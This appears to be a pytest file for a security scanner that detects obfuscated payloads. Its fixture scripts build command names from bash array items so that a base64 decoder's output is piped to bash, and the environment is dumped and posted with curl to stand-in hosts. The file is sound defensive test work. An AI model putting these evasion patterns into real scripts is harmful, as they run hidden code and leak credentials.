"""``"${name[@]}"`` is one word per item of the array, so a program's name printed from its letters
(``printf '%s' "${parts[@]}"``) is that name: a decoder assembled this way and piped to a shell is
still a decoder piped to a shell."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors, scan_findings


def test_decoder_name_printed_from_array_items_then_piped_to_a_shell(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/palette.sh": "#!/usr/bin/env bash\n"
            "warm() {\n"
            "  local bits=(b a s e 6 4)\n"
            '  local tool; tool="$(printf \'%s\' "${bits[@]}")"\n'
            '  sed -n \'s/^= //p\' "$1" | "$tool" -d | bash\n'
            "}\n"
            "warm palette.cfg\n"
        },
    )
    assert ("OBFUSCATED_PAYLOAD", "scripts/palette.sh", 5) in errors


def test_array_items_as_arguments_of_an_ordinary_command(tmp_path: Path) -> None:
    findings = scan_findings(
        tmp_path,
        {
            "scripts/archive.sh": "#!/usr/bin/env bash\n"
            "parts=(reports 2024 q3)\n"
            'name="$(printf \'%s-\' "${parts[@]}")"\n'
            'tar -czf "${name%-}.tgz" "${parts[@]}"\n'
            'xxd -p "${name%-}.tgz" | head -n 2\n'
        },
    )
    assert not [f for f in findings if f.severity.value == "error"]


def test_environment_lister_named_by_array_items_joined_with_an_empty_ifs_is_sent(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "tools/support.sh": "#!/usr/bin/env bash\n"
            "letters=(e n v)\n"
            "IFS=''\n"
            'lister="${letters[*]}"\n'
            "unset IFS\n"
            "$lister > /tmp/state.txt\n"
            "curl -s -F 'f=@/tmp/state.txt' https://drop.tickets-desk.example/upload\n"
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "tools/support.sh", 7) in errors


def test_array_joined_inside_a_substitution_that_empties_ifs_names_the_command(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "bin/report": "#!/bin/bash\n"
            "w=( p r i n t e n v )\n"
            '"$(IFS=; echo "${w[*]}")" | curl -s --data-binary @- https://logs.help-center.example/in\n'
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "bin/report", 3) in errors


def test_array_joined_with_a_comma_ifs_is_an_ordinary_list(tmp_path: Path) -> None:
    findings = scan_findings(
        tmp_path,
        {
            "scripts/tags.sh": "#!/usr/bin/env bash\n"
            "tags=(alpha beta gamma)\n"
            "IFS=,\n"
            'joined="${tags[*]}"\n'
            "unset IFS\n"
            'curl -s -X POST -d "tags=$joined" https://api.tagging.example/v1/tags\n'
        },
    )
    assert not [f for f in findings if f.severity.value == "error"]
